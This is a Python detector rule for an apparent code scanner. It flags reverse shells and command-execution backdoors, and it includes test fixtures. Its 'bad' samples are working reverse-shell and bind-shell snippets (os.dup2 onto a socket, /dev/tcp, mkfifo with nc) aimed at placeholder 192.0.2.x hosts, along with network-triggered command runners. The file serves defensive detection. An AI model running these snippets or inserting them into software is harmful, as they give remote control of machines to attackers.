"""A shell or a program is wired to a socket: whoever is at the other end controls the machine.

The signs are a socket's descriptor copied over standard input and output (`os.dup2`) or given to a new process as its
streams, what a socket receives run as a command, or a shell command that does the same (`/dev/tcp`, `nc -e`, `socat
exec:`).  Remote administration has SSH.  See CWE-506, CWE-912 and MITRE ATT&CK T1059, T1095.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

import libcst as cst

from codeguard.checks._api import Bad, Check, Good, Hit, Miss
from codeguard.checks.malicious._calls import calls
from codeguard.checks.malicious._channels import sendings
from codeguard.checks.malicious._reach import reach
from codeguard.checks.malicious._shell import Command, commands
from codeguard.knowledge.malicious import running
from codeguard.model import Confidence, Severity
from codeguard.syntax.unit import Unit

CONSTANT_PART = re.compile(r"(?!(?:sh|bash|cmd|powershell|c|C|exe|bin)\b)\w{2,}")
MAX_HOPS = 4
ANSWERS = (
    "write",
    "send",
    "sendall",
    "publish",
    "send_message",
    "reply",
    "reply_text",
    "post",
    "emit",
    "send_text",
    "sendto",
    "respond",
    "answer",
)
STREAMS = ("stdin", "stdout", "stderr")
OPENERS = (
    "connect",
    "connect_ex",
    "accept",
    "create_connection",
    "bind",
    "open_connection",
    "wrap_socket",
    "connect_async",
)


def find(unit: Unit) -> Iterator[Hit]:
    """Report the place where the streams are joined, or the command that joins them."""
    for command in unit.fact(commands):
        if running.SHELL_TO_SOCKET.search(command.text):
            yield Hit(command.call, "This command connects a shell to another host, which then controls the machine")
    yield from _served(unit)
    if "socket" not in unit.text and "asyncio" not in unit.text and "telnetlib" not in unit.text:
        return
    known = unit.fact(calls)
    if not any(method in known.by_method for method in OPENERS):
        return
    starts = bool(unit.fact(commands))
    for call in (*known.by_name.get("os.dup2", ()), *known.by_name.get("os.dup", ())):
        if call.args and starts and _descriptor(call.args[0].value, unit):
            yield Hit(
                call,
                "This makes a network connection the standard input or output of the program that runs next: the other end controls it",
            )
            break
    for command in unit.fact(commands):
        given = [value for name in STREAMS if (value := unit.arg(command.call, None, name)) is not None]
        if any(_descriptor(value, unit) for value in given):
            yield Hit(
                command.call,
                "This runs a program whose input and output are a network connection: the other end controls it",
            )
        elif _piped(command.call, unit):
            yield Hit(
                command.call,
                "This runs a program and passes what a socket receives to its input: the other end controls it",
            )


def _served(unit: Unit) -> Iterator[Hit]:
    """Runs of whole commands that a request or a message carries, where their output goes back."""
    if not any(_runs(command) for command in unit.fact(commands)):
        return
    flow = unit.fact(reach)
    answered: bool | None = None
    for command in unit.fact(commands):
        if not _runs(command):
            continue
        ordered = [word for word in command.words if "order" in flow.kinds(word) and _whole(word, unit)]
        if not ordered or _chosen(ordered, command.call, unit):
            continue
        answered = _answers(unit) if answered is None else answered
        if answered:
            yield Hit(
                command.call,
                "This runs whole commands that a request or a message carries and sends back what they print: a shell for whoever can reach it",
            )


def _runs(command: Command) -> bool:
    return command.shell or command.name in running.SHELL_TEXT_CALLS or len(command.words) == 1


def _whole(node: cst.BaseExpression, unit: Unit, hops: int = 0) -> bool:
    """Whether a command is taken as it comes, rather than being put into a text of the code."""
    if isinstance(node, cst.FormattedString):
        return not any(isinstance(p, cst.FormattedStringText) and CONSTANT_PART.search(p.value) for p in node.parts)
    if isinstance(node, cst.BinaryOperation):
        return False
    if isinstance(node, cst.Name) and hops < MAX_HOPS:
        bound = [b.value for b in unit.scopes.look_up(node.value, node) if b.kind in {"assign", "walrus"}]
        return all(_whole(value, unit, hops + 1) for value in bound if value is not None)
    return True


def _chosen(words: list[cst.BaseExpression], call: cst.Call, unit: Unit) -> bool:
    """Whether the function compares the command with a list of what is allowed."""
    function = unit.function_of(call)
    if function is None:
        return False
    named = {key for word in words for key in unit.fact(reach).roots(word)}
    return any(
        isinstance(test.comparisons[0].operator, (cst.In, cst.NotIn)) and named & unit.fact(reach).roots(test.left)
        for test in unit.nodes(cst.Comparison)
        if unit.function_of(test) is function
    )


def _answers(unit: Unit) -> bool:
    """Whether the output of a command is returned, written or sent by the file."""
    flow = unit.fact(reach)
    known = unit.fact(calls)
    given: list[cst.BaseExpression] = [r.value for r in unit.nodes(cst.Return) if r.value is not None]
    given += [function.body for function in unit.nodes(cst.Lambda)]
    given += [a.value for method in ANSWERS for call in known.by_method.get(method, ()) for a in call.args]
    return any("output" in flow.kinds(value) for value in given)


def _descriptor(node: cst.BaseExpression, unit: Unit, hops: int = 0) -> bool:
    """A socket, or its `fileno()` or `makefile()`."""
    if (
        isinstance(node, cst.Call)
        and isinstance(node.func, cst.Attribute)
        and node.func.attr.value in {"fileno", "makefile", "detach"}
    ):
        return _socket(node.func.value, unit)
    if isinstance(node, cst.Name) and hops < 3:
        bindings = unit.scopes.look_up(node.value, node)
        if any(
            b.kind in {"assign", "walrus"} and b.value is not None and _descriptor(b.value, unit, hops + 1)
            for b in bindings
        ):
            return True
    return _socket(node, unit)


def _socket(node: cst.BaseExpression, unit: Unit) -> bool:
    name = unit.fact(reach).resolved(node)
    if name:
        return "socket" in name.lower() and "socketpair" not in name and not name.startswith("<local>")
    if not isinstance(node, cst.Name):
        return False
    for binding in unit.scopes.look_up(node.value, node):
        value = binding.value
        if (
            binding.kind == "unpack"
            and isinstance(value, cst.Call)
            and isinstance(value.func, cst.Attribute)
            and value.func.attr.value == "accept"
        ):
            return True
        if value is not None and "socket" in (named := unit.name(value) or "") and "socketpair" not in named:
            return True
    return False


def _piped(call: cst.Call, unit: Unit) -> bool:
    """Whether the process is a shell whose `stdin` is written with what a socket receives."""
    flow = unit.fact(reach)
    command = next((c for c in unit.fact(commands) if c.call is call), None)
    if (
        command is None
        or unit.arg(call, None, "stdin") is None
        or not any(running.SHELLS.search(word.split(" ")[0]) for word in command.argv if word)
    ):
        return False
    writes = unit.fact(calls).by_method
    return any(
        "remote" in flow.kinds(a.value)
        for method in ("write", "communicate", "send")
        for w in writes.get(method, ())
        for a in w.args
    ) and bool(unit.fact(sendings))


CHECK = Check(
    id="CGM004",
    behaviour="give a shell to whoever is at the other end of a connection",
    name="reverse-shell",
    severity=Severity.CRITICAL,
    confidence=Confidence.HIGH,
    cwe=(506, 912),
    find=find,
    fix="Remove the code, and treat the machines that ran it as taken over.",
    bad=(
        Bad(
            "import socketserver, subprocess\n\nclass H(socketserver.StreamRequestHandler):\n    def handle(self):\n        for line in self.rfile:\n            self.wfile.write(subprocess.run(line.decode(), shell=True, capture_output=True).stdout)  # finding\n"
        ),
        Bad(
            "import os\nfrom fastapi import FastAPI, Request\napp = FastAPI()\nTABLE = {'v': lambda a: '1', 's': lambda a: os.popen(a).read()}  # finding\n\n@app.post('/internal/{op}')\nasync def internal(op: str, request: Request):\n    body = await request.json()\n    return {'r': TABLE.get(op, TABLE['v'])(body.get('a', ''))}\n"
        ),
        Bad(
            "import subprocess\nimport paho.mqtt.client as mqtt\n\ndef told(client, data, message):\n    client.publish('o', subprocess.getoutput(message.payload.decode()))  # finding\n\nc = mqtt.Client()\nc.on_message = told\n"
        ),
        Bad(
            "import socket, subprocess, os\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(('192.0.2.10', 4444))\nos.dup2(s.fileno(), 0)  # finding\nos.dup2(s.fileno(), 1)\nsubprocess.call(['/bin/sh', '-i'])\n"
        ),
        Bad(
            "import pty, os, socket\n\ndef beat(h='192.0.2.99', p=53):\n    k = socket.socket(); k.connect((h, p))\n    [os.dup2(k.fileno(), n) for n in (0, 1, 2)]  # finding\n    pty.spawn('/bin/bash')\n"
        ),
        Bad(
            "import socket, subprocess\nc = socket.create_connection(('192.0.2.1', 9))\nsubprocess.Popen(['cmd.exe'], stdin=c.fileno(), stdout=c.fileno(), stderr=c.fileno())  # finding\n"
        ),
        Bad("import os\nos.system(\"bash -c 'bash -i >& /dev/tcp/192.0.2.3/443 0>&1'\")  # finding\n"),
        Bad(
            "import subprocess\nsubprocess.Popen('rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.3 443 > /tmp/f', shell=True)  # finding\n"
        ),
        Bad(
            "import socket, subprocess\nsrv = socket.socket()\nsrv.bind(('', 5000))\nsrv.listen()\nc, _ = srv.accept()\np = subprocess.Popen(['/bin/sh'], stdin=c, stdout=c)  # finding\n"
        ),
    ),
    good=(
        Good(
            "import subprocess\nfrom flask import Flask, request\napp = Flask(__name__)\n\n@app.route('/ping')\ndef ping():\n    return subprocess.run(['ping', '-c', '1', request.args['host']], capture_output=True).stdout\n"
        ),
        Good(
            "import subprocess\nfrom flask import Flask, request\napp = Flask(__name__)\nKNOWN = {'up': 'uptime', 'df': 'df -h'}\n\n@app.route('/run')\ndef run():\n    return subprocess.getoutput(KNOWN[request.args['c']])\n"
        ),
        Good(
            "import socketserver\n\nclass Echo(socketserver.StreamRequestHandler):\n    def handle(self):\n        for line in self.rfile:\n            self.wfile.write(line)\n"
        ),
        Good(
            "import os, sys\n\ndef daemonize(log):\n    if os.fork():\n        sys.exit(0)\n    fd = os.open(log, os.O_WRONLY | os.O_CREAT)\n    os.dup2(fd, 1)\n    os.dup2(fd, 2)\n"
        ),
        Good(
            "import socket\n\ndef is_open(port):\n    s = socket.create_connection(('localhost', port), timeout=2)\n    s.close()\n    return True\n"
        ),
        Good(
            "import subprocess\np = subprocess.Popen(['sort'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)\np.communicate(b'a')\n"
        ),
    ),
    misses=(
        Miss(
            "import os\nfrom net import link\n\nos.dup2(link().fileno(), 0)  # finding\nos.execv('/bin/sh', ['sh'])\n",
            why="the socket of another file is not known to be one",
        ),
    ),
)
